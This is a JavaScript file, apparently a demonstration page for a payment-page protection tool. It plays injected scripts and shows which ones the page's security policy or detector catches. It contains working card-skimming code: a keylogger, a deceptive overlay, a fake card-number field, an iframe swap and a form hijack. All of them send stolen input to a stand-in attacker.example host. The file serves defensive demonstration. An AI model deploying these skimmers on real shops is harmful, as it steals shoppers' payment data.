// Plays scripts that somebody has smuggled into the shop's own code: they may do all that the page
// may. The panel tells what each got, and what stopped or caught it.
const REQUEST_TIMEOUT_MS = 10_000;
const pay = document.querySelector('#pay');
const cardForm = document.querySelector('#payment');

const STAYS =
  'The browser: what is typed into a frame of another site stays there (same-origin policy).';
const FOOLS = 'Nothing stops the page’s own code from this, and it can fool a person.';

/** An attack's own site, by which what the policy refuses is told apart. */
const lair = (id) => `https://${id}.attacker.example`;

/** The attacks that began, each with what the policy refused it and how to tell what it has. */
const begun = [];
document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
  const attack = begun.find(({ id }) => blockedURI.startsWith(lair(id)));
  attack?.refused.add(effectiveDirective);
  attack?.tell();
});

/** One attack's place in the panel. */
function place(id, refused) {
  const row = document.querySelector(`[data-attack="${id}"]`);
  const results = row.querySelector('dl');
  return (got, by) => {
    results.hidden = false;
    row.querySelector('.got').textContent = got;
    const policy =
      refused.size === 0
        ? []
        : [`The page’s policy refused to send or load anything: ${[...refused].join(', ')}.`];
    row.querySelector('.by').textContent = [...by, ...policy].join(' ');
  };
}

/** Sends what was stolen in every way that a script has. */
async function send(id, loot) {
  new Image().src = `${lair(id)}/?${encodeURIComponent(loot)}`;
  const signal = AbortSignal.timeout(REQUEST_TIMEOUT_MS);
  const request = { method: 'POST', body: loot, mode: 'no-cors', signal };
  await fetch(lair(id), request).catch(() => undefined);
}

const count = (number, noun) => `${number} ${noun}${number === 1 ? '' : 's'}`;

const ATTACKS = {
  keylogger(show) {
    let own = 0;
    let card = 0;
    const tell = () =>
      show(`${count(own, 'key')} in the shop’s own fields, ${card} in the card form.`, [STAYS]);
    document.addEventListener(
      'keydown',
      (event) => {
        if (cardForm.contains(event.target)) card += 1;
        else own += 1;
        void send('keylogger', event.key);
        tell();
      },
      true,
    );
    return tell;
  },

  overlay(show) {
    const sheet = document.createElement('div');
    const { left, top, width, height } = cardForm.getBoundingClientRect();
    Object.assign(sheet.style, {
      position: 'absolute',
      left: `${left + scrollX}px`,
      top: `${top + scrollY}px`,
      width: `${width}px`,
      height: `${height}px`,
      zIndex: '10',
    });
    sheet.className = 'sheet';
    let clicks = 0;
    const tell = () =>
      show(`${count(clicks, 'click')} meant for the card form; no key and no number.`, [
        FOOLS,
        'coffer page reports it (page-overlay).',
      ]);
    sheet.addEventListener('pointerdown', () => {
      clicks += 1;
      void send('overlay', 'click');
      tell();
    });
    document.body.append(sheet);
    return tell;
  },

  'fake-field'(show) {
    const label = document.createElement('label');
    label.className = 'field';
    label.textContent = 'Card number';
    const input = document.createElement('input');
    input.autocomplete = 'cc-number';
    input.inputMode = 'numeric';
    label.append(input);
    let server = '';
    const tell = () => {
      const digits = input.value.replaceAll(/\D/g, '').length;
      show(`${count(digits, 'digit')}: all that is typed here.`, [
        FOOLS,
        'coffer page reports it (page-fake-card-field).',
        ...(server === '' ? [] : [server]),
      ]);
    };
    const steal = async (number) => {
      await send('fake-field', number);
      // The policy leaves the shop's own server, from which it could be fetched later.
      const answer = await fetch('/orders', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ cart: { note: number } }),
        signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS),
      });
      const { error } = await answer.json().catch(() => ({}));
      if (error?.code) server = `The shop’s own server refused it (guard: ${error.code}).`;
      tell();
    };
    input.addEventListener('input', () => {
      tell();
      void steal(input.value);
    });
    cardForm.before(label);
    return tell;
  },

  'frame-swap'(show) {
    const tell = () =>
      show('Nothing: the frame of the card form is empty now, and takes no card.', []);
    cardForm.querySelector('iframe').src = lair('frame-swap');
    return tell;
  },

  'form-hijack'(show) {
    let loot = '';
    const tell = () => show(`${loot}. The card is in none of the form’s fields.`, [STAYS]);
    const steal = () => {
      const fields = [...new URLSearchParams(new FormData(pay))];
      loot = fields.map(([name, value]) => `${name}: ${value || 'empty'}`).join(', ');
      const copy = document.createElement('form');
      copy.action = lair('form-hijack');
      copy.method = 'post';
      document.body.append(copy);
      copy.submit();
      void send('form-hijack', loot);
      tell();
    };
    pay.addEventListener('submit', steal, true);
    steal();
    return tell;
  },
};

function play(id) {
  if (!Object.hasOwn(ATTACKS, id)) return;
  document.querySelector(`[data-attack="${id}"] button`).disabled = true;
  const attack = { id, refused: new Set(), tell: () => undefined };
  begun.push(attack);
  attack.tell = ATTACKS[id](place(id, attack.refused));
  attack.tell();
}

document.querySelector('.attack ul').addEventListener('click', (event) => {
  if (event.target.localName === 'button') play(event.target.closest('li').dataset.attack);
});

// An address that begins with an attack shows what `coffer page` says to it.
const first = new URLSearchParams(location.search).get('attack');
if (first) {
  const ready = new MutationObserver(() => {
    if (pay.dataset.ready !== 'true') return;
    ready.disconnect();
    play(first);
  });
  ready.observe(pay, { attributes: true });
}
